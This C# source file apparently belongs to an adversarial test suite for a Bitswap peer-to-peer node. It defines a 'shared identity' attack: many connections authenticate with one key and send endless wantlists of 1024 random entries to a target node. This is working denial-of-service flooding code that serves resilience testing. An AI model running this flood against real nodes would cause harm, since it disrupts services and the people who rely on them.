using Bitswap.Libp2p.Crypto;
using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>All attackers prove themselves with one key, from many connections.</summary>
internal sealed class SharedIdentity : Attack
{
    private static readonly PrivateKey _key = PrivateKey.Generate();

    public override string Name => "one key, many connections";

    public override string Summary => "all attackers are one peer, each with a connection and wantlists of 1024 random wants, as fast as they are taken";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        RandomFrame frame = new(1024, cids => new BitswapMessage { Wantlist = [.. cids.Select(cid => new WantlistEntry(cid, SendDontHave: true))] });
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken, _key);
        await using IByteStream stream = await peer.OpenAsync(cancellationToken);
        while (true)
        {
            await stream.WriteAsync(frame.Next(), cancellationToken);
        }
    }
}
